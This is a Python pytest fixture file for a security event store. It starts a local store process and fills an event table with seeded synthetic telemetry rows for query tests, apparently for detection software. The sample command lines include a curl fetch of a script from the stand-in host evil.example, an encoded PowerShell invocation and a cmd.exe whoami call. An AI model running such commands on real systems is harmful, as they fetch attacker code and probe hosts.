"""A store process with a small event table whose rows are also here, as the predicates see them."""

from __future__ import annotations

import random
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from vedette.query.statement import Statement
from vedette.schema.access import RIGHTS, Role, Scope
from vedette.schema.dictionary import FIELDS, Kind
from vedette.store.columns import ipc_stream
from vedette.store.event_table import create_table
from vedette.store.events import EventStore

NOW = 1_795_000_000_000_000
"""2026-11-18T11:06:40Z."""
HOUR = 3_600_000_000
Row = dict[str, Any]

COMMANDS = (
    "curl -k http://evil.example/a.sh",
    "C:\\Windows\\System32\\cmd.exe /c WHOAMI",
    "powershell -enc SQBFAFgA%20_x",
    "/bin/sh -c 'echo Ünïcode ΣΑΣ; ПРИВЕТ.txt'",
    "",
    "a_b%c\\d",
    "line one\nline two\ttab",
)
PATHS = ("/usr/bin/curl", "C:\\Windows\\System32\\cmd.exe", "/tmp/Привет.TXT", "/tmp/a?b*c", "", "C:\\a_b%\\x.EXE")
ADDRESSES = ("10.0.0.1", "10.1.2.3", "192.168.0.255", "2001:db8::1", "::ffff:10.0.0.1", "not an address", "")
DIGESTS = tuple(letter * 64 for letter in "0a9f")
TYPES = ("process_start", "process_stop", "file_create", "module_load", "network_connect", "os_log", "process_block")


def make_rows(count: int, seed: int = 7) -> list[Row]:
    """Rows over every kind of column, with many unknown values; the same for the same seed."""
    draw = random.Random(seed)

    def maybe(values: tuple[Any, ...]) -> Any:
        return draw.choice(values) if draw.random() < 0.6 else None

    rows = []
    for number in range(count):
        row: Row = {
            "tenant": "other" if number % 10 == 9 else "default",
            "host.id": f"{number % 4:032x}",
            "host.name": maybe(("WS-1", "srv-2", "Сервер")),
            "event.type": draw.choice(TYPES),
            "event.time": NOW - draw.randrange(0, 30 * HOUR) // 1_000_000 * draw.choice((1, 1_000_000)),
            "event.received": NOW,
            "event.epoch": f"{number % 3:016x}",
            "event.sequence": number,
            "user.name": maybe(("root", "Alice", "SYSTEM", "Ελένης", "")),
            "process.command_line": maybe(COMMANDS),
            "process.file.path": maybe(PATHS),
            "process.file.name": maybe(("curl", "CMD.EXE", "x")),
            "process.file.sha256": maybe(DIGESTS),
            "process.pid": maybe((0, 1, 443, 4_294_967_295)),
            "process.exit_code": maybe((-1, 0, 1)),
            "process.args_truncated": maybe((True, False)),
            "process.args": maybe((("curl", "-k"), (), ("CMD", "/c", ""), ("ПРИВЕТ",))),
            "process.env": maybe(({"PATH": "/bin", "Secret": ""}, {}, {"path": "C:\\x", "A": "10"})),
            "file.path": maybe(PATHS),
            "file.name": maybe(("a.txt", "B.EXE")),
            "file.size": maybe((0, 10, 2**40)),
            "file.created": maybe((NOW, NOW - HOUR, 0)),
            "socket.remote_ip": maybe(ADDRESSES),
            "socket.remote_port": maybe((53, 443)),
            "host.ip": maybe((("10.0.0.1", "fe80::1"), ("192.168.0.1",), ())),
            "dns.query": maybe(("Evil.Example", "good.example")),
            "winlog.data.LogonType": maybe(("3", "10", "-5", "x")),
            "winlog.data": maybe(({"KeyLength": "3", "foo": "Bar"}, {"keylength": "10", "FOO": "ΣΑΣ"}, {})),
        }
        rows.append(row)
    return rows


class Store:
    """The event store as the Central Node uses it, and the rows in its table."""

    def __init__(self, events: EventStore, rows: list[Row]) -> None:
        self.events, self.rows = events, rows

    def ask(self, statement: Statement) -> list[tuple[Any, ...]]:
        """Run a statement: values bound by the server."""
        return self.events.query(statement.sql, statement.parameters, statement.settings)

    def insert(self, rows: list[Row]) -> None:
        """Add rows to the table."""
        self.events.insert(ipc_stream(arrow(rows)), token=f"{len(rows)} {rows[0]}")


_ARROW: dict[Kind, Any] = {
    Kind.TEXT: pa.string(),
    Kind.INTEGER: pa.int64(),
    Kind.TIME: pa.timestamp("us", "UTC"),
    Kind.BOOLEAN: pa.bool_(),
    Kind.LIST: pa.list_(pa.string()),
    Kind.MAP: pa.map_(pa.string(), pa.string()),
}


def arrow(rows: list[Row]) -> pa.Table:
    """Rows as a table for the store; an unknown list or map is an empty one."""
    columns = {}
    for name in dict.fromkeys(name for row in rows for name in row):
        kind = FIELDS[name].kind
        values = [row.get(name) for row in rows]
        if kind is Kind.LIST:
            values = [list(value or ()) for value in values]
        if kind is Kind.MAP:
            values = [list((value or {}).items()) for value in values]
        columns[name] = pa.array(values, type=_ARROW[kind])
    return pa.table(columns)


@pytest.fixture(scope="session")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """Give a store process of its own: chDB takes one directory a process, and this one is another test's."""
    data = tmp_path_factory.mktemp("node")
    process = subprocess.Popen(
        [sys.executable, "-m", "vedette.store.server", "--data", str(data), "--port", "0"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        port, password = _address(data / "run", process)
        made = Store(EventStore(f"http://127.0.0.1:{port}", password), make_rows(400))
        made.events.command(create_table())
        made.insert(made.rows)
        yield made
    finally:
        process.terminate()
        process.wait(20)


def _listening(file: Path) -> bool:
    try:
        socket.create_connection(("127.0.0.1", int(file.read_text())), timeout=5).close()
    except (OSError, ValueError):
        return False
    return True


def _address(run: Path, process: subprocess.Popen[bytes]) -> tuple[int, str]:
    deadline = time.monotonic() + 60
    while not _listening(run / "store.ready"):
        if process.poll() is not None or time.monotonic() > deadline:
            pytest.fail(f"the store process did not start (exit {process.poll()})")
        time.sleep(0.05)
    return int((run / "store.ready").read_text()), (run / "store-password").read_text()


@pytest.fixture
def scope() -> Scope:
    """Give an administrator of the tenant `default`."""
    return Scope(tenants=frozenset({"default"}), rights=RIGHTS[Role.ADMINISTRATOR])


@pytest.fixture
def now() -> int:
    return NOW


@pytest.fixture
def asked(store: Store) -> Callable[[Statement], list[Mapping[str, Any]]]:
    """Give a function that runs a statement and names the values."""
    return lambda statement: [dict(zip(statement.columns, row, strict=True)) for row in store.ask(statement)]
